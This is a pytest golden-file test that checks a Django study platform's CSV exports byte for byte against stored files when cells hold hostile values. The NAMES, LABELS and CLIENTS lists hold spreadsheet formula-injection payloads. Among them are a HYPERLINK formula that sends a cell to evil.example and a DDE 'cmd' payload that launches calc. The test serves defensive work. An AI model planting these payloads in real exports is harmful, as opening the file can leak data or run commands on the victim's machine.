"""Golden files: the exact CSV bytes every export writes for hostile values, in the cells
that carry them (researcher-named images, labels and conditions; participants' client
information as rows stored before it was typed at the door could hold it).

The golden files keep the columns that hold those values and leave out the ones that
change from run to run (ids, pseudonyms, times, the model's random stand-in labels). To
accept a deliberate change: GOLDEN_UPDATE=1 pytest tests/studies/test_export_golden.py,
then read the diff of tests/studies/golden/ before committing it."""

import csv
import io
import os
from pathlib import Path

import pytest
from rest_framework.test import APIClient

from inference.models import Image
from studies.models import Condition, Response
from studies.services import launch
from studies.services.export import client_columns
from tests import factories
from tests.conftest import ParticipantClient

pytestmark = pytest.mark.django_db
GOLDEN = Path(__file__).parent / "golden"
KEPT = {
    "responses": [
        "condition",
        "image_name",
        "true_label",
        "rt_ms",
        *client_columns.COLUMNS,
    ],
    "participants": ["condition", "excluded", "trials", "answered", "skipped", "hidden_ms"],
    "items": ["image_name", "true_class", "true_label", "stimulus_type", "judgments"],
}
NAMES = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click").png',
    "+1+cmd|' /C calc'!A0.png",
    "@SUM(A1:A9).png",
    "-2+3.png",
    "\t=1+1.png",
    "\r=1.png",
]
LABELS = ["=1+1", "plain label", "-minus", "@at", "tab\tinside", "naïve café"]
CLIENTS = [
    {
        "dpr": 2,
        "viewport": [1280, 800],
        "displayed": [32, 24],
        "scaled": False,
        "display_scale": 2,
        "input": "key",
        "hidden_ms": 0,
    },
    {"dpr": 1.5, "hidden_ms": "=1+1", "hidden_count": 1, "input": "mouse", "display_scale": 0.625},
    {
        "dpr": -1,
        "viewport": "+1+cmd|' /C calc'!A0",
        "input": "@SUM(A1:A9)",
        "scaled": "=TRUE()",
        "display_scale": "=2*2",
    },
    {"displayed": ["=1", 2], "hidden_count": "\t=1", "explanation_views": [{"open_ms": 10, "close_ms": 250}]},
    {"input": "\r=1", "explanation_views": "=1", "hidden_ms": 12.0},
    {"dpr": True, "viewport": [800, 600], "hidden_ms": 1500, "input": "touch"},
]


@pytest.fixture
def study(tmp_path):
    study = factories.study(tmp_path, live=False, slug="golden", per_participant=6)
    Condition.objects.create(study=study, name="=explanation", weight=1)
    for image, name, label in zip(Image.objects.order_by("original_name"), NAMES, LABELS, strict=True):
        Image.objects.filter(pk=image.pk).update(original_name=name, true_label=label)
    launch.launch(study)
    client = ParticipantClient(APIClient(), study.slug)
    client.enter()
    client.consent()
    client.complete()
    responses = Response.objects.select_related("trial__item__image")
    for response in sorted(responses, key=lambda r: r.trial.item.image.original_name):
        Response.objects.filter(pk=response.pk).update(
            client=CLIENTS[NAMES.index(response.trial.item.image.original_name)]
        )
    return study


def kept_columns(text: str, table: str) -> bytes:
    """The export's rows with KEPT columns only, sorted, written back as the export writes CSV."""
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    out = io.StringIO(newline="")
    writer = csv.writer(out)
    writer.writerow(KEPT[table])
    writer.writerows(sorted([row[column] for column in KEPT[table]] for row in rows))
    return out.getvalue().encode("utf-8")


@pytest.mark.parametrize("table", list(KEPT))
def test_hostile_values_are_exported_exactly_as_the_golden_file_says(study, table):
    staff = APIClient()
    staff.force_login(factories.researcher())
    reply = staff.get(f"/api/v1/studies/{study.slug}/export/{table}.csv")
    found = kept_columns(b"".join(reply.streaming_content).decode("utf-8"), table)
    golden = GOLDEN / f"hostile-{table}.csv"
    if os.environ.get("GOLDEN_UPDATE") == "1":
        golden.parent.mkdir(exist_ok=True)
        golden.write_bytes(found)
    assert found == golden.read_bytes()
